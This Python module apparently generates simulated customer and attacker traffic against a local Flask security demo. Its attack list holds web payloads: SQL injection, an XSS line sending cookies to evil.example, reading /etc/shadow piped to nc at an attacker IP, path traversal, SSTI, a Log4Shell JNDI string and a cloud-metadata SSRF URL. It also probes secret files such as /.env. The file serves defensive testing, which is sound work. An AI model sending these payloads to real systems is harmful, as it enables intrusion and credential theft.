"""Customers and attackers for ``flask_app.py --console``: a burst, then a few a second."""

from __future__ import annotations

import random
import threading
import time
from http.client import HTTPConnection
from urllib.parse import quote, urlencode

ATTACKERS = ("203.0.113.66", "203.0.113.99", "198.51.100.23", "192.0.2.77", "2001:db8::bad")
CUSTOMERS = tuple(f"198.51.100.{number}" for number in range(40, 80))
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
SCANNER = "sqlmap/1.8.4#stable (https://sqlmap.org)"

ATTACKS = (
    "1' UNION SELECT username, password FROM users--",
    "' OR 1=1; DROP TABLE orders--",
    "<script>fetch('//evil.example?' + document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc 203.0.113.66 4444",
    "{{ config.__class__.__init__.__globals__ }}",
    "${jndi:ldap://203.0.113.66/a}",
    "http://169.254.169.254/latest/meta-data/",
)
SEARCHES = ("blue shoes", "garden hose", "credit union", "o'reilly", "coffee & tea", "size 42")
PROBED = ("/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php")


class SampleCountries:
    """Stands for a database of countries: the sample's addresses are nobody's (RFC 5737)."""

    def get_country(self, ip: str) -> str | None:
        if ip in ATTACKERS:
            return ("NL", "US", "BR", "CN", "RO")[ATTACKERS.index(ip)]
        return "DE" if ip in CUSTOMERS else None


def send(host: str, port: int, path: str, client: str, agent: str, form: str = "") -> int:
    """One request in a client's name: the example trusts 127.0.0.1 as its proxy."""
    headers = {"X-Forwarded-For": client, "User-Agent": agent}
    if form:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    connection = HTTPConnection(host, port, timeout=10)
    try:
        connection.request("POST" if form else "GET", path, form or None, headers)
        return connection.getresponse().status
    finally:
        connection.close()


def one(host: str, port: int, chance: random.Random) -> None:
    """A customer three times out of five, else an attacker."""
    if chance.random() < 0.6:
        customer = chance.choice(CUSTOMERS)
        path = chance.choice(("/", "/search?" + urlencode({"q": chance.choice(SEARCHES)})))
        send(host, port, path, customer, BROWSER)
        return
    attacker = chance.choices(ATTACKERS, weights=(8, 4, 2, 2, 1))[0]
    kind = chance.random()
    if kind < 0.6:
        send(host, port, "/search?q=" + quote(chance.choice(ATTACKS)), attacker, SCANNER)
    elif kind < 0.8:
        send(host, port, chance.choice(PROBED), attacker, SCANNER)
    else:
        send(host, port, "/login", attacker, SCANNER, urlencode({"user": "admin", "website": "x"}))


def start(host: str, port: int, burst: int = 240) -> None:
    """Send in a thread of its own, until the process ends."""

    def run() -> None:
        chance = random.Random(20)
        sent = 0
        while True:
            try:
                one(host, port, chance)
                sent += 1
            except OSError:  # the app is not up yet, or no longer
                time.sleep(0.2)
            if sent > burst:
                time.sleep(chance.uniform(0.5, 3.0))

    threading.Thread(target=run, name="sample-traffic", daemon=True).start()
